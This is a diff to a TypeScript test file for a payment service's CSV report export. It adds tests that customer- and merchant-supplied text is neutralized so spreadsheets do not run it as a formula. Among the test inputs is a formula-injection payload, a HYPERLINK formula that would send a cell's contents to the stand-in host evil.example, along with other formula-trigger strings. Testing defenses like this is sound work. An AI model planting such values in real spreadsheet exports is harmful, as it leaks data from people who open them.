@@ -9,7 +9,7 @@ import { describe, expect, it } from 'vitest';
 import { NotFound, Unavailable } from '../../shared/domain/errors.js';
 import type { BalanceEntry } from '../../shared/domain/balances.js';
 import { ReportService, type ReportLinks, type ReportRange, type ReportRecords, type ReportStore, type ReportWriter } from '../../shared/domain/report-service.js';
-import { createReportRequestSchema, csvField, csvRecord, reportHeader, type Report } from '../../shared/domain/reports.js';
+import { createReportRequestSchema, csvField, entryRow, reportHeader, transactionRow, type Report } from '../../shared/domain/reports.js';
 import type { Transaction } from '../../shared/domain/transactions.js';
 import { refusal } from '../support/memory/gateway.js';
 
@@ -54,7 +54,30 @@ describe('the file', () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('two\nlines')).toBe('"two\nlines"');
     expect(csvField(null)).toBe('');
-    expect(csvRecord(['-12.50', 'x,y', null])).toBe('-12.50,"x,y",\r\n');
+    expect(entryRow(entry({ availableChange: '-12.50', reason: 'x,y' }))).toMatch(/,-12\.50,.*,"x,y"\r\n$/);
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
+    ['+1+1', "'+1+1"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', '"\'\rcmd"'],
+    ['cust-42', 'cust-42'],
+    ['a=b', 'a=b'],
+  ])('keeps merchant- and customer-given text %j from being run as a formula: %s', (text, cell) => {
+    const row = transactionRow(transaction(1, { customerId: text, orderId: text }));
+    // orderId and customerId are the 7th and 8th columns.
+    expect(row.startsWith(`00000000-0000-4000-8000-000000000001,2026-05-01T00:01:00.000Z,2026-05-01T00:01:00.000Z,deposit,confirmed,,${cell},${cell},TRY,1.10,`)).toBe(true);
+    expect(entryRow(entry({ reason: text })).endsWith(`,${cell}\r\n`)).toBe(true);
+  });
+
+  it("leaves the gateway's own decimals numbers, negative ones too, and neutralizes anything else in an amount's column", () => {
+    expect(entryRow(entry({ availableChange: '-10.00', availableAfter: '90.00' }))).toBe(
+      `00000000-0000-4000-8000-00000000000e,2026-05-01T00:00:00.000Z,00000000-0000-4000-8000-000000000001,payout_reserve,TRY,-10.00,90.00,10.00,\r\n`,
+    );
+    expect(transactionRow(transaction(1, { amount: '-5', fees: { processing: '=1+1', technical: null } }))).toContain(',TRY,-5,\'=1+1,,');
   });
 
   it('has a header naming the columns of each type', () => {
@@ -104,6 +127,23 @@ class MemoryFiles implements ReportWriter, ReportLinks {
   async link(key: string, expiresAt: Date) {
     return `https://files.example/${key}?until=${expiresAt.toISOString()}`;
   }
+}
+
+function entry(fields: Partial<BalanceEntry> = {}): BalanceEntry {
+  return {
+    id: '00000000-0000-4000-8000-00000000000e',
+    merchantId: MERCHANT,
+    transactionId: '00000000-0000-4000-8000-000000000001',
+    type: 'payout_reserve',
+    currency: 'TRY',
+    availableChange: '-10.00',
+    reservedChange: '10.00',
+    availableAfter: '90.00',
+    reservedAfter: '10.00',
+    sequence: 2,
+    createdAt: '2026-05-01T00:00:00.000Z',
+    ...fields,
+  };
 }
 
 function transaction(n: number, fields: Partial<Transaction> = {}): Transaction {
